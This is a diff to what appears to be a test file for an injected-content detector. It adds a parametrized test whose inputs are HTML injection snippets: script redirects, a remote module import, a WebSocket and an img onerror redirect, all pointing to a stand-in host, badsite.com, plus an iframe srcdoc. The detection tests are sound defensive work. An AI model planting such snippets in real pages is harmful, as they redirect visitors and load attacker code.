@@ -124,6 +124,20 @@ def test_a_script_from_where_anybody_places_files_is_asked_about(compared, made,
     assert keys(compared(injected, made.page(9, head=head(place)), before)) == ["script"]
 
 
+@pytest.mark.parametrize(
+    ("body", "key"),
+    [
+        ("<script>top['location']='http://www.badsite.com/'</script>", "loader"),
+        ('<script type="module">import "https://badsite.com/x.mjs"</script>', "loader"),
+        ("<script>new WebSocket('wss://badsite.com/s')</script>", "loader"),
+        ("""<img src=x onerror="location='http://badsite.com/'">""", "loader"),
+        ('<iframe srcdoc="&lt;h1&gt;x&lt;/h1&gt;"></iframe>', "frame"),
+    ],
+)
+def test_other_ways_of_loading_are_found_too(compared, made, body, key):
+    assert keys(compared(injected, made.page(9, body=body))) == [key]
+
+
 PICTURES = "".join(f'<img src="{{0}}/up/{at}.jpg">' for at in range(4))
 
 
